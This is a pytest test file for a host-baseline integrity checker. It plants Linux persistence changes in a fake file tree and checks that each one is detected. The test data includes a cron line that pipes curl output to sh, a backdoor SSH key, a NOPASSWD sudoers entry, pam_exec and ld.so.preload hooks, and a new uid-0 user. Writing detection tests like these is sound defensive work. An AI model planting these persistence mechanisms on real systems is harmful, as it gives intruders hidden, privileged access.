"""host baseline/check: every persistence point has a must-catch and a legit twin."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.factories.host_tree import KEY_EVIL, build_host, write
from trainguard.core.errors import HostError, SignatureError
from trainguard.core.findings import Finding, Severity
from trainguard.core.keys import generate_key
from trainguard.host import check_host, load_baseline
from trainguard.host.baseline import build_baseline, sign_baseline


@pytest.fixture
def host(tmp_path: Path) -> tuple[Path, Path]:
    root = build_host(tmp_path / "root")
    base = tmp_path / "base.json"
    base.write_text(json.dumps(build_baseline(root, ["/usr/bin"])))
    return root, base


def _check(host: tuple[Path, Path]) -> list[Finding]:
    root, base = host
    return check_host(load_baseline(base), root)


def _only(findings: list[Finding]) -> Finding:
    assert len(findings) == 1, [f.message for f in findings]
    return findings[0]


def test_unchanged_tree_has_no_findings(host: tuple[Path, Path]) -> None:
    assert _check(host) == []


def test_comment_and_blank_line_edits_are_not_reported(host: tuple[Path, Path]) -> None:
    root, _ = host
    crontab = root / "etc/crontab"
    crontab.write_text(crontab.read_text() + "\n# nightly jobs are in cron.d\n")
    keys = root / "home/alice/.ssh/authorized_keys"
    keys.write_text("# rotated 2024-05\n" + keys.read_text())
    assert _check(host) == []


def test_new_authorized_key(host: tuple[Path, Path]) -> None:
    root, _ = host
    keys = root / "home/alice/.ssh/authorized_keys"
    keys.write_text(keys.read_text() + KEY_EVIL + "\n")
    finding = _only(_check(host))
    assert finding.rule == "host.new_entry"
    assert finding.severity is Severity.CRITICAL
    assert "intern@box" in finding.message and "SHA256:" in finding.message
    assert finding.evidence["user"] == "alice"
    assert finding.actor is not None and finding.actor["user"] == "root"  # file owner (uid 0 here)


def test_new_authorized_keys_file_for_root(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(root, "/root/.ssh/authorized_keys", KEY_EVIL + "\n", 0o600)
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.CRITICAL)
    assert finding.evidence["lines"] and "intern@box" in finding.evidence["lines"][0]


def test_new_cron_line(host: tuple[Path, Path]) -> None:
    root, _ = host
    crontab = root / "etc/crontab"
    crontab.write_text(crontab.read_text() + "*/5 * * * * root curl -s http://x/p | sh\n")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.HIGH)
    assert "curl -s http://x/p | sh" in finding.message


def test_new_systemd_unit_and_timer(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(root, "/etc/systemd/system/evil.timer", "[Timer]\nOnCalendar=minutely\n")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.HIGH)
    assert finding.path == "/etc/systemd/system/evil.timer"


def test_enabling_a_unit_by_symlink(host: tuple[Path, Path]) -> None:
    root, _ = host
    os.symlink(
        "/etc/systemd/system/train-agent.service",
        root / "etc/systemd/system/multi-user.target.wants/extra.service",
    )
    finding = _only(_check(host))
    assert finding.evidence["kind"] == "symlink"


def test_ld_so_preload(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(root, "/etc/ld.so.preload", "/usr/lib/libsneaky.so\n")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.CRITICAL)


def test_sudoers_nopasswd_line(host: tuple[Path, Path]) -> None:
    root, _ = host
    ops = root / "etc/sudoers.d/ops"
    ops.write_text(ops.read_text() + "intern ALL=(ALL) NOPASSWD: ALL\n")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.CRITICAL)
    assert "NOPASSWD" in finding.message


def test_pam_exec_line(host: tuple[Path, Path]) -> None:
    root, _ = host
    pam = root / "etc/pam.d/sshd"
    pam.write_text("auth optional pam_exec.so quiet /tmp/.x\n" + pam.read_text())
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.CRITICAL)
    assert "pam_exec.so" in finding.message


def test_trojaned_pam_module(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(root, "/lib/x86_64-linux-gnu/security/pam_unix.so", b"\x7fELF backdoored")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.changed_entry", Severity.CRITICAL)


def test_new_uid0_user(host: tuple[Path, Path]) -> None:
    root, _ = host
    passwd = root / "etc/passwd"
    passwd.write_text(passwd.read_text() + "sysupd:x:0:0::/var/lib/sysupd:/bin/bash\n")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.new_entry", Severity.CRITICAL)
    assert "uid=0" in finding.message


def test_user_changed_to_uid0(host: tuple[Path, Path]) -> None:
    root, _ = host
    passwd = root / "etc/passwd"
    passwd.write_text(passwd.read_text().replace("alice:x:1000:", "alice:x:0:"))
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.changed_entry", Severity.CRITICAL)


def test_new_setuid_binary(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(root, "/usr/bin/helper", b"\x7fELF helper", 0o4755)
    finding = _only(_check(host))
    assert finding.rule == "host.new_entry"
    expected = Severity.CRITICAL if os.geteuid() == 0 else Severity.HIGH
    assert finding.severity is expected


def test_sshd_included_file_change(host: tuple[Path, Path]) -> None:
    root, _ = host
    write(
        root,
        "/etc/ssh/sshd_config.d/10-site.conf",
        "PasswordAuthentication no\nPermitRootLogin yes\n",
    )
    findings = _check(host)
    assert [f.severity for f in findings] == [Severity.CRITICAL]
    assert "PermitRootLogin yes" in findings[0].message


def test_removed_key(host: tuple[Path, Path]) -> None:
    root, _ = host
    keys = root / "home/alice/.ssh/authorized_keys"
    keys.write_text("")
    finding = _only(_check(host))
    assert (finding.rule, finding.severity) == ("host.removed_entry", Severity.LOW)
    assert "alice@laptop" in finding.message


def test_mode_change_is_reported(host: tuple[Path, Path]) -> None:
    root, _ = host
    (root / "home/alice/.ssh/authorized_keys").chmod(0o666)
    finding = _only(_check(host))
    assert finding.rule == "host.changed_entry"
    assert "mode" in finding.message


def test_unreadable_location_fails_closed(host: tuple[Path, Path]) -> None:
    root, _ = host
    loop = root / "home/alice/.ssh/authorized_keys2"
    os.symlink("authorized_keys2", loop)  # a loop: cannot be resolved
    findings = _check(host)
    assert any(
        f.rule == "host.changed_entry" and f.evidence.get("reason") == "unreadable"
        for f in findings
    )


def test_signed_baseline(host: tuple[Path, Path], tmp_path: Path) -> None:
    _root, base = host
    key = generate_key()
    signed = sign_baseline(json.loads(base.read_text()), key)
    base.write_text(json.dumps(signed))
    assert load_baseline(base, key.public).signed_by == key.key_id
    # The intruder adds his key to the baseline too: the signature no longer verifies.
    signed["entries"]["line:/home/alice/.ssh/authorized_keys:x#0"] = {
        "point": "ssh_authorized_keys",
        "kind": "line",
        "path": "/x",
    }
    base.write_text(json.dumps(signed))
    with pytest.raises(SignatureError, match="altered"):
        load_baseline(base, key.public)


def test_bad_baselines(tmp_path: Path) -> None:
    with pytest.raises(HostError, match="cannot read baseline"):
        load_baseline(tmp_path / "none.json")
    bad = tmp_path / "b.json"
    bad.write_text('{"format": "trainguard-host-baseline-v1", "entries": {"k": {"kind": 1}}}')
    with pytest.raises(HostError, match="malformed baseline entry"):
        load_baseline(bad)
